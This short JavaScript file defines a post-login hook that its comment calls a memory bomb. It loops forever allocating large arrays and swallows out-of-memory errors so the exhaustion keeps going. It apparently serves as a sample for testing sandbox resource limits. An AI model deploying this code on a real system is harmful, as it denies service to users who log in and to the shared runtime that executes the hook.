// Memory bomb: an ever-growing array, out-of-memory caught and ignored.
exports.onExecutePostLogin = async (event, api) => {
  const hoard = [];
  for (;;) {
    try { hoard.push(new Array(1e5).fill(hoard.length)); } catch (e) { hoard.length = hoard.length / 2; }
  }
};
